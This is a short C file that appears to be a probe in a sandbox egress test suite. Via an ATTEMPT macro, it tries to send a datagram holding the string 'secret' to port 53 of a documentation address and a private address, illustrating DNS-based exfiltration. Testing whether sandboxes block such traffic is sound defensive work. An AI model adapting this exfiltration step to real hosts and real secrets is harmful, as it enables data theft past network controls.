/* Sends a datagram to port 53 of some addresses: how secrets leave through DNS. */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
static long send_to(const char *address) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return fd < 0 ? -1 : sendto(fd, "secret", 6, 0, (struct sockaddr *)&to, sizeof to);
}
int main(void) {
    ATTEMPT("datagram to a documentation address", send_to("192.0.2.1"));
    ATTEMPT("datagram to a private address", send_to("10.0.0.1"));
    return 0;
}
